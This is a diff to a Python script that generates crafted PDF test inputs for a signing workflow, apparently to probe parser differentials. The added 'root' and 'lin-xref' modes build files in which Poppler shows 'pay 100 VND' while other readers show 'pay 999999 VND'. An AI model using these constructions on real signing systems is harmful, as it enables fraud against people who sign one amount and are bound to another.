@@ -19,6 +19,14 @@ attacker's reading, 2026-12-03: "pay 100 VND" shown before signing, another text
                                                  unlisted (a repairing reader shows it)
     python3 signing_inputs.py streampage IN OUT  IN with its page rewritten as a stream (no page
                                                  to Poppler)
+    python3 signing_inputs.py root IN OUT        IN and, after its end, a trailer whose /Root names
+                                                 another catalog (readers rebuilding the table
+                                                 open the last one they find)
+    python3 signing_inputs.py lin-xref IN OUT    a linearized file (byte edits) whose section after
+                                                 the linearization dictionary, which Poppler
+                                                 reads, places the page content at an earlier
+                                                 version than the section startxref names (IN
+                                                 unused)
     python3 signing_inputs.py linearized IN OUT  IN with a second page, linearized by qpdf
                                                  (pikepdf): an honest file
     python3 signing_inputs.py lin-o IN OUT       the same with /O naming the second page (Poppler
@@ -150,6 +158,46 @@ elif mode == 'twice':
     text = b'BT /F1 24 Tf 72 700 Td (pay 999999 VND) Tj ET'
     open(out, 'wb').write(src + b'%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n'
                           % (content, len(text), text))
+elif mode == 'root':
+    open(out, 'wb').write(src + b'trailer\n<< /Root 99 0 R >>\n')
+elif mode == 'lin-xref':
+    font = b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
+
+    def content(t):
+        t = b'BT /F1 24 Tf 72 700 Td (%s) Tj ET' % t
+        return b'<< /Length %d >>\nstream\n%s\nendstream' % (len(t), t)
+
+    objs = [(1, b'<< /Type /Catalog /Pages 2 0 R >>'),
+            (2, b'<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] '
+                b'/Resources << /Font << /F1 5 0 R >> >> >>'),
+            (3, b'<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>'),
+            (5, font), (4, content(b'pay 100 VND')), (4, content(b'pay 999999 VND'))]
+
+    def section(offs):
+        return b'xref\n0 11\n0000000000 65535 f\r\n' + b''.join(
+            b'%010d 00000 n\r\n' % offs[n] if n in offs else b'0000000000 65535 f\r\n'
+            for n in range(1, 11)) + b'trailer\n<< /Size 11 /Root 1 0 R >>\n'
+
+    def build(length):
+        b = bytearray(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
+        b += b'10 0 obj\n<< /Linearized 1 /L %010d /O 3 /N 1 /H [0 0] /E 0 /T 0 >>\nendobj\n' % length
+        first_page = len(b)
+        b += section({})
+        offs, earlier = {}, None
+        for n, body in objs:
+            if n == 4 and earlier is None:
+                earlier = len(b)
+            offs[n] = len(b)
+            b += b'%d 0 obj\n%s\nendobj\n' % (n, body)
+        b[first_page:first_page + len(section({}))] = section({**offs, 4: earlier})
+        x = len(b)
+        b += section(offs) + b'startxref\n%d\n%%%%EOF\n' % x
+        return bytes(b)
+
+    made = build(0)
+    made = build(len(made))
+    assert b'/L %010d' % len(made) in made
+    open(out, 'wb').write(made)
 elif mode == 'streampage':
     root_num = int(re.findall(rb'/Root\s+(\d+)\s+0\s+R', src)[-1])
     pages = int(re.search(rb'/Pages (\d+) 0 R', obj(root_num)).group(1))
